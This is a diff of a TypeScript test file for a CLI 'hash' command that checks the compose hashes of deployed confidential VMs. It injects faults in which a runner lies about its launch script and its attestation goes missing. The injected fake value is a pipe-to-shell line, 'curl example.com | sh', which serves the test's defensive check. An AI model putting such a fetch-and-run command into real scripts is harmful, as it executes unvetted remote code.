@@ -1,11 +1,13 @@
 /** `hash` through the built program: its predictions against runners that are really deployed. */
 import { existsSync } from "node:fs";
-import { appendFile, cp, readdir, readFile, stat, writeFile } from "node:fs/promises";
+import { cp, readdir, readFile, stat, writeFile } from "node:fs/promises";
 import path from "node:path";
 import { expect, test } from "vitest";
 import { composeHashOf, type AppCompose } from "../../src/core/compose-hash.ts";
 import type { HashExplanation, HashResult } from "../../src/commands/hash/result.ts";
 import type { InitResult } from "../../src/commands/init/result.ts";
+import type { JournalRecord } from "../../src/state/journal.ts";
+import { appendRecord, journalOf } from "../helpers/journal.ts";
 import { deployRunner } from "../helpers/orchestrator.ts";
 import { makePreparedWorld } from "../helpers/prepared-cluster.ts";
 import { COMPOSE_FOLDER, type Run, type World } from "../helpers/program.ts";
@@ -139,10 +141,10 @@ async function rememberAnotherScript(world: World): Promise<string> {
   const appCompose = JSON.parse(await readFile(path.join(store, name), "utf8")) as AppCompose;
   const old = { ...appCompose, pre_launch_script: "#!/bin/sh\necho of old\n" };
   await writeFile(path.join(store, `${composeHashOf(old)}.json`), JSON.stringify(old));
-  const journal = path.join(folder, "journal.jsonl");
-  const lines = (await readFile(journal, "utf8")).trim().split("\n");
-  const line = lines.findLast((text) => text.includes('"compose-hash"')) ?? "";
-  await appendFile(journal, `${line.replace(hash, composeHashOf(old))}\n`);
+  const records = await journalOf(world);
+  const { digest: _, ...record } = records.findLast(({ type }) => type === "compose-hash") as JournalRecord &
+    Json;
+  await appendRecord(folder, { ...record, hash: composeHashOf(old) } as JournalRecord);
   return hash;
 }
 
@@ -218,11 +220,16 @@ test("nothing recorded: unknown without a key and without a runner; then a live 
   });
 
   const { cvms } = await world.sandbox.cloud();
-  const lieAbout = (name: string) => ({
-    path: `/cvms/${cvms.find((cvm) => cvm.name === name)?.vmUuid}/compose_file$`,
-    action: { kind: "lie" as const, fields: { pre_launch_script: "curl example.com | sh" } },
-  });
-  world.sandbox.setFaults([lieAbout(newer.name)]);
+  // The measured text of the attestation would tell what it really is.
+  const lieAbout = (name: string) => {
+    const cvm = `/cvms/${cvms.find((it) => it.name === name)?.vmUuid}`;
+    const script = { pre_launch_script: "curl example.com | sh" };
+    return [
+      { path: `${cvm}/compose_file$`, action: { kind: "lie" as const, fields: script } },
+      { path: `${cvm}/attestation$`, action: { kind: "status" as const, status: 404 } },
+    ];
+  };
+  world.sandbox.setFaults(lieAbout(newer.name));
   const careful = await world.run(["hash", "--check", "--json"], fresh);
   // Whether it is approved is not known: never 0.
   expect(careful.exitCode).toBe(7);
@@ -233,7 +240,7 @@ test("nothing recorded: unknown without a key and without a runner; then a live 
     differences: [{ field: "allowed_envs" }, { field: "docker_compose_file" }],
     warnings: [{ code: "runner-hash-unchecked" }],
   });
-  world.sandbox.setFaults([lieAbout(newer.name), lieAbout(older.name)]);
+  world.sandbox.setFaults([...lieAbout(newer.name), ...lieAbout(older.name)]);
   const nobody = await world.run(["hash", "--json"], fresh);
   expect(nobody.exitCode).toBe(7);
   expect(failureOf(nobody)["message"]).toContain(newer.name);
